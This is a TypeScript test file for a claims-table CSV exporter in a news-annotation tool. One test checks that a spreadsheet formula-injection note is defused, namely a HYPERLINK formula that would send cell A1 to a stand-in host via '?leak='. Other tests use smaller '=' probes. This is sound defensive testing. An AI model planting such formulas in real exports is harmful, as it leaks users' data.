import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Annotation } from '../../model/annotation.ts';
import { asEntityId, asRelationId, type RelationTypeId } from '../../model/ids.ts';
import { CLAIM_DATE, CLAIMANT, TARGET, type Relation } from '../../model/relation.ts';
import { makeAnnotation, makeDocument } from '../dataset/test-support.ts';
import { buildFixtureModel } from '../export-fixture.ts';
import { CLAIMS_TABLE_COLUMNS, encodeClaimsTable } from './encode.ts';

const corpusRoot = new URL('../../../../shared/corpus/', import.meta.url);
const fixture = buildFixtureModel((name) => readFileSync(new URL(name, corpusRoot), 'utf8'));

/** The table's rows as objects, read by a real CSV parser (BOM and CRLF as written). */
function rowsOf(csv: string): Record<string, string>[] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<Record<string, string>>(csv.slice(1), {
    header: true,
    newline: '\r\n',
    skipEmptyLines: true,
  });
  expect(parsed.errors).toEqual([]);
  expect(parsed.meta.fields).toEqual([...CLAIMS_TABLE_COLUMNS]);
  return parsed.data;
}

describe('encodeClaimsTable on the corpus fixture', () => {
  // The first report with a publisher (made up for the test); the second says none.
  const [pompeo, ...rest] = fixture.documents;
  const rows = rowsOf(
    encodeClaimsTable({
      ...fixture,
      documents: [{ ...pompeo!, source: 'The Corpus Herald' }, ...rest],
    }),
  );

  it('writes one row per claim, of every layer, documents in order and claims by position', () => {
    const claims = fixture.annotations.filter((a) => a.label === 'claim');
    expect(rows.map((row) => row.Claim).sort()).toEqual(claims.map((a) => a.quote).sort());
    expect(new Set(rows.map((row) => row.Annotator)).size).toBe(3);
    const order = rows.map((row) => [
      fixture.documents.findIndex((d) => d.id === row['Document ID']),
      Number(row.Start),
    ]);
    expect(order).toEqual([...order].sort(([a, b], [c, d]) => a! - c! || b! - d!));
  });

  it('gives a claim its claimant with the entity, its date with the value, and its target', () => {
    expect(rows.find((row) => row.Claim.startsWith('Both must implement'))).toEqual({
      'Document ID': fixture.documents[0]!.id,
      'Document title': 'Pompeo steps into the conflict',
      Source: 'The Corpus Herald',
      Published: '2020-10-30',
      Claim: 'Both must implement a ceasefire and return to substantive negotiations.',
      Start: '761',
      End: '832',
      Claimants: 'Secretary Pompeo',
      'Claimant entities': 'Mike Pompeo',
      'Claim date': 'this Friday',
      'Date value': '2020-10-30',
      'Date value status': 'suggested',
      // Ben's actor span has no entity, so the entity cell stays empty.
      Targets: 'Armenia and Azerbaijan',
      'Target entities': '',
      Annotator: 'Ben Aliyev',
      Note: '',
    });
  });

  it('defuses a note a spreadsheet would run, and leaves a document without a date or source empty', () => {
    const row = rows.find((candidate) => candidate.Claim.startsWith('Azerbaijan swiftly'))!;
    expect(row.Note).toBe(`'=HYPERLINK("https://example.com/?leak="&A1, "source")`);
    expect([
      row.Source,
      row.Published,
      row['Date value'],
      row.Targets,
      row['Target entities'],
    ]).toEqual(['', '', '2022-09', 'Azerbaijan', 'Azerbaijan']);
  });
});

describe('encodeClaimsTable on several links', () => {
  const document = makeDocument(
    'Talks',
    'Pompeo and the Secretary said talks resume, Baku and Yerevan agree.',
  );
  const at = (quote: string, label: string, id: string): Annotation =>
    makeAnnotation(
      document,
      document.text.indexOf(quote),
      document.text.indexOf(quote) + quote.length,
      { id, label },
    );
  const pompeo = asEntityId('pompeo');
  const claim = at('talks resume', 'claim', 'c');
  const unlinked = at('Baku and Yerevan agree', 'claim', 'd');
  const annotations = [
    claim,
    unlinked,
    { ...at('Pompeo', 'actor', 'a1'), entity: pompeo },
    { ...at('the Secretary', 'actor', 'a2'), entity: pompeo },
    at('Baku', 'actor', 't1'),
    { ...at('Yerevan', 'actor', 't2'), note: '=1+1' },
  ];
  const link = (type: RelationTypeId, to: string, n: number): Relation => ({
    id: asRelationId(`r${n}`),
    documentId: document.id,
    type,
    from: claim.id,
    to: annotations.find((a) => a.id === to)!.id,
    annotator: claim.annotator,
    createdAt: claim.createdAt,
    updatedAt: claim.createdAt,
  });
  const model = {
    documents: [document],
    annotations,
    annotators: [{ id: claim.annotator, name: '=Ana' }],
    labels: [],
    entities: [{ id: pompeo, name: 'Mike Pompeo', kind: 'person' as const, aliases: [] }],
    // Given out of text order: the cells list the mentions as they appear.
    relations: [
      link(TARGET, 't2', 1),
      link(CLAIMANT, 'a2', 2),
      link(TARGET, 't1', 3),
      link(CLAIMANT, 'a1', 4),
    ],
  };

  it('joins several claimants and targets with " | ", each entity named once', () => {
    const [row, other] = rowsOf(encodeClaimsTable(model, { defuseFormulas: false }));
    expect([
      row!.Claimants,
      row!['Claimant entities'],
      row!.Targets,
      row!['Target entities'],
    ]).toEqual(['Pompeo | the Secretary', 'Mike Pompeo', 'Baku | Yerevan', '']);
    expect(row!.Annotator).toBe('=Ana');
    expect(other).toMatchObject({
      Claim: 'Baku and Yerevan agree',
      Claimants: '',
      'Claim date': '',
      Targets: '',
    });
  });

  it('ignores a relation of a type the table has no column for', () => {
    const extra = { ...link(CLAIM_DATE, 't1', 5), type: 'cites' as RelationTypeId };
    const [row] = rowsOf(encodeClaimsTable({ ...model, relations: [...model.relations, extra] }));
    expect([row!['Claim date'], row!.Annotator]).toEqual(['', "'=Ana"]);
  });
});
